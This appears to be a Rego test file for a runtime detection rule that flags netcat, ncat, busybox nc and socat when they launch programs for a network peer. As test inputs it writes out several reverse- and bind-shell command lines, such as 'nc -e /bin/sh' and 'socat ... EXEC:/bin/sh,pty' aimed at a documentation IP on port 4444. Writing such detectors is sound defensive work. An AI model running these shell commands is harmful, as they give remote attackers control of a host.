package signatures.netcat_runs_program_test

import rego.v2

import data.signatures.netcat_runs_program as signature

_started(pathname, argv) := {
	"event": "sched_process_exec",
	"args": {"pathname": pathname, "argv": argv},
	"process": {"exe": pathname},
}

_remote := [
	["/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]],
	["/usr/bin/nc.traditional", ["nc", "-lvp", "4444", "-c", "/bin/sh"]],
	["/usr/bin/ncat", ["ncat", "--sh-exec", "id", "203.0.113.5", "4444"]],
	["/usr/bin/ncat", ["ncat", "--exec=/bin/sh", "203.0.113.5", "4444"]],
	["/bin/busybox", ["busybox", "nc", "203.0.113.5", "4444", "-e", "/bin/sh"]],
	["/usr/bin/socat", ["socat", "TCP:203.0.113.5:4444", "EXEC:/bin/sh,pty"]],
	["/usr/bin/socat", ["socat", "tcp-l:4444,reuseaddr", "system:id"]],
]

test_program_for_a_peer_is_reported if {
	every case in _remote {
		[pathname, argv] := case
		signature.finding == {{"pathname": pathname, "argv": argv}} with input as _started(pathname, argv)
	}
}

_ordinary := [
	["/usr/bin/nc.openbsd", ["nc", "-z", "127.0.0.1", "22"]],
	["/usr/bin/ncat", ["ncat", "-l", "4444"]],
	["/usr/bin/socat", ["socat", "UNIX-LISTEN:/run/x", "EXEC:/bin/cat"]],
	["/usr/bin/tar", ["tar", "-e", "x"]],
]

test_ordinary_use_is_silent if {
	every case in _ordinary {
		[pathname, argv] := case
		signature.finding == set() with input as _started(pathname, argv)
	}
}

test_missing_field_is_silent if {
	signature.finding == set() with input as object.remove(_started("/usr/bin/nc", ["nc", "-e", "x"]), ["args"])
}

_agent := object.union(_started("/usr/bin/nc", ["nc", "-e", "x"]), {"process": {"exe": "/opt/ours/agent"}})

test_exception_is_silent if {
	count(signature.finding) == 1 with input as _agent
	signature.finding == set() with input as _agent
		with data.exceptions as {"TW-0175": [{"exe": "/opt/ours/agent"}]}
}
